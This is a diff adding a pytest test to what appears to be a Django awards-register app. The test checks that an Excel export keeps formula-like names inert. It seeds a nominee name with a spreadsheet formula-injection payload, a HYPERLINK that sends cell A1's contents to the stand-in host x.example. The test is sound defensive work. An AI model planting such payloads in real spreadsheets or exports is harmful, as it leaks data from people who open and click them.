@@ -120,3 +120,19 @@ def test_a_unit_reads_only_its_rows_in_the_export(client, person, merged):
     client.force_login(person("register.ward", Role.UNIT_OFFICER, unit=merged["ninh_kieu"]))
     data = _data_rows(_sheet(client.get(reverse("dossiers:register_excel"))))
     assert set(data) == {"22/QĐ-UBND"}
+
+
+def test_the_export_keeps_formula_text_inert(board, merged):
+    """A name typed like a formula reads back as text, never a live formula (issue 12, item 4)."""
+    payload = '=HYPERLINK("http://x.example/steal?d="&A1,"Bấm vào đây")'
+    AwardRecordFactory(
+        nominee=NomineeFactory(unit=merged["ninh_kieu"], full_name=payload),
+        award=merged["new"].award,
+        year=2025,
+        decision_number="33/QĐ-UBND",
+        decision_date=date(2025, 12, 21),
+    )
+    response = board.get(reverse("dossiers:register_excel"))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == payload]
+    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
